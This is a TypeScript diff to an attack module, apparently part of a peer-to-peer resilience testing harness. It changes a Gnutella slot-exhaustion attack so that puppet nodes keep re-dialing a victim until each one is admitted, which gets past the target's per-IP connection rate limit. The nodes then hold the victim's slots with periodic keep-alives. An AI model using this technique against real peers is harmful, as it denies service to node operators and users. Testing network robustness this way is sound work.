@@ -89,10 +89,13 @@ export async function overlayAttack (order: AttackOrder, out: (o: Record<string,
     case 'gnutella-slots': {
       const nodes: Array<P<GnutellaMsg>> = []
       for (let i = 0; i < (order.peers ?? 8); i++) nodes.push(await puppetNode<GnutellaMsg>(gnutellaSpec, 'tcp', `${seed}-${i}`))
-      for (const n of nodes) n.services.puppet.machine.send(to, { type: 'connect' })
       const answered = (n: P<GnutellaMsg>): boolean => n.services.puppet.machine.inbox.some(e => e.msg.type === 'ok' || e.msg.type === 'busy')
-      const end = performance.now() + 20_000
-      while (!nodes.every(answered) && performance.now() < end) await tick(10)
+      // a victim with a per-IP connection rate refuses some of 8 dials at once: ask again until each is answered
+      const end = performance.now() + 30_000
+      while (!nodes.every(answered) && performance.now() < end) {
+        for (const n of nodes) if (!answered(n)) n.services.puppet.machine.send(to, { type: 'connect' })
+        for (let t = 0; t < 15 && !nodes.every(answered); t++) await tick(100)
+      }
       const admitted = nodes.filter(n => n.services.puppet.machine.inbox.some(e => e.msg.type === 'ok')).length
       out({ event: 'started', peers: nodes.map(n => n.peerId.toString()), admitted })
       // hold the slots: a keep-alive (TTL-1 ping) every 5 s, no query, no hit
